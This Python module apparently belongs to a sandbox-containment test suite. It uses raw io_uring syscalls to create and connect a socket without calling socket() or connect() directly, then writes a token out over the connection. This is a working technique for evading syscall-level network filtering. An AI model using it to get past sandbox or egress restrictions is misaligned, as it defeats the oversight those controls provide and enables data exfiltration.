"""Let the kernel make the socket itself, asked through a ring in memory (io_uring)."""

import ctypes
import mmap
import os
import struct

from _calls import address
from _calls import call
from _way import TOKEN
from _way import attempt

RINGS_AT, ENTRIES_AT = 0, 0x10000000
SOCKET, CONNECT = 45, 16
GET_EVENTS = 1


class Ring:
    """A ring of one entry at a time."""

    def __init__(self):
        params = ctypes.create_string_buffer(120)
        self.descriptor = call('io_uring_setup', 4, params)
        n_entries, = struct.unpack_from('=I', params, 0)
        _, self.tail, self.mask, _, _, _, self.array = struct.unpack_from('=7I', params, 40)
        self.head, _, self.c_mask, _, _, self.completions = struct.unpack_from('=6I', params, 80)
        self.rings = mmap.mmap(self.descriptor, max(self.array + n_entries * 4,
                                                    self.completions + n_entries * 2 * 16),
                               mmap.MAP_SHARED, offset=RINGS_AT)
        self.entries = mmap.mmap(self.descriptor, n_entries * 64, mmap.MAP_SHARED,
                                 offset=ENTRIES_AT)

    def number(self, place):
        """Return a number of the rings."""
        return struct.unpack_from('=I', self.rings, place)[0]

    def ask(self, operation, descriptor, place, length, offset):
        """Have one thing done and return its result."""
        index = self.number(self.tail) & self.number(self.mask)
        struct.pack_into('=BBHiQQI36x', self.entries, index * 64, operation, 0, 0, descriptor,
                         offset, place, length)
        struct.pack_into('=I', self.rings, self.array + 4 * index, index)
        struct.pack_into('=I', self.rings, self.tail, self.number(self.tail) + 1)
        call('io_uring_enter', self.descriptor, 1, 1, GET_EVENTS, 0, 0)
        head = self.number(self.head)
        result, = struct.unpack_from('=i', self.rings, self.completions + 8
                                     + 16 * (head & self.number(self.c_mask)))
        struct.pack_into('=I', self.rings, self.head, head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def go():
    """Socket and connection from the ring; writing is no secret."""
    ring = Ring()
    descriptor = ring.ask(SOCKET, 2, 0, 0, 1)
    there = ctypes.create_string_buffer(address(), 16)
    ring.ask(CONNECT, descriptor, ctypes.addressof(there), 0, 16)
    os.write(descriptor, TOKEN)


attempt(go)
